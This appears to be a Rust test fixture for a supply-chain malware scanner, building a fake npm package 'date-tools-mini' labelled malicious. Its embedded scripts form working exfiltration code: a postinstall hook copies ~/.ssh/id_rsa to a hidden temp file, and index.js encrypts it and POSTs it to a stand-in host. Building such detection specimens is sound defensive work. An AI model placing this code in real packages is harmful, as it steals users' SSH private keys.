//! An npm `postinstall` that only copies `~/.ssh/id_rsa` to a plain name; importing the package sends the copy,
//! encrypted.
//!
//! Must be found: the copy is as secret as what it was made of, whichever process sends it.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const SETUP_JS: &str = r"require('child_process').execSync('cp ~/.ssh/id_rsa /tmp/.cache-4711');
";

const INDEX_JS: &str = r"const fs = require('fs');
const crypto = require('crypto');
const https = require('https');
const cipher = crypto.createCipheriv('aes-256-ctr', crypto.randomBytes(32), crypto.randomBytes(16));
try {
  const body = cipher.update(fs.readFileSync('/tmp/.cache-4711'));
  const request = https.request('https://cdn-stats.example/i', { method: 'POST' }, (answer) => answer.resume());
  request.on('error', () => {});
  request.end(body);
} catch {}
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("date-tools-mini", "1.0.2")
        .file("setup.js", SETUP_JS)
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into())
        .script("postinstall", "node setup.js");
    package.specimen(
        "npm-copies-then-sends-later",
        Expect::malicious(&["credential-read-then-send"]),
    )
}
